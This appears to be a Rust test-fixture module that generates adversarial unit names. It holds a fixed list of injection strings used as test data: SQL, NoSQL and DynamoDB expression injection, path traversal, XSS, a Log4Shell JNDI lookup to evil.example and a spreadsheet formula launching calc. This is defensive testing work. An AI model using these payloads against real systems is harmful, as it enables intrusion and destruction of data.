//! Names that have a meaning in another system.

use screen::first_hidden;
use std::collections::BTreeSet;

use testing::random::Random;

const SEED: u64 = 20_261_121;
/// The number of random names in addition to the fixed ones.
const MANY: usize = 250;
/// Texts that are a condition, a key, a query or a page in another system.
pub const FIXED: [&str; 24] = [
    "attribute_exists(pk)",
    "attribute_not_exists(#name)",
    "#name = :value",
    "#k = :v OR :v = :v",
    "pk = \"acme/pricing-page/000\" AND begins_with(sk, \"a\")",
    "SET #count = :by REMOVE pk",
    "{\"S\":\"acme\"}",
    "{\"$ne\":null}",
    "$where",
    "' OR '1'='1",
    "\"; DROP TABLE events; --",
    "acme.com 0 000001",
    "acme.com 1 demo-booked crm-991",
    "%20%25%2F%00",
    "a%20b",
    "a b",
    "../../other/pricing-page/000",
    "other/pricing-page/000",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "=cmd|' /C calc'!A0",
    "\u{202e}moc.emca\u{2066}",
];
const PIECES: [&str; 28] = [
    "#k",
    ":v",
    "=",
    " ",
    "(",
    ")",
    "attribute_exists",
    "pk",
    "sk",
    " AND ",
    " OR ",
    "NOT ",
    "'",
    "\"",
    "\\",
    "{",
    "}",
    "$",
    "%",
    "%2",
    "/",
    "..",
    "0",
    "1",
    "ü",
    "😀",
    "é",
    "<b>",
];

/// Returns whether a text has no hidden content. Other texts are refused in every field.
pub fn is_taken(text: &str) -> bool {
    first_hidden(text).is_none()
}

/// Returns distinct unit ids.
pub fn names() -> Vec<String> {
    let mut random = Random::new(SEED);
    let mut all: BTreeSet<String> =
        FIXED.iter().filter(|name| is_taken(name)).map(|name| (*name).to_owned()).collect();
    while all.len() < FIXED.len() + MANY {
        let pieces = 1 + random.below(8);
        all.insert((0..pieces).map(|_| *random.pick(&PIECES)).collect());
    }
    all.into_iter().collect()
}
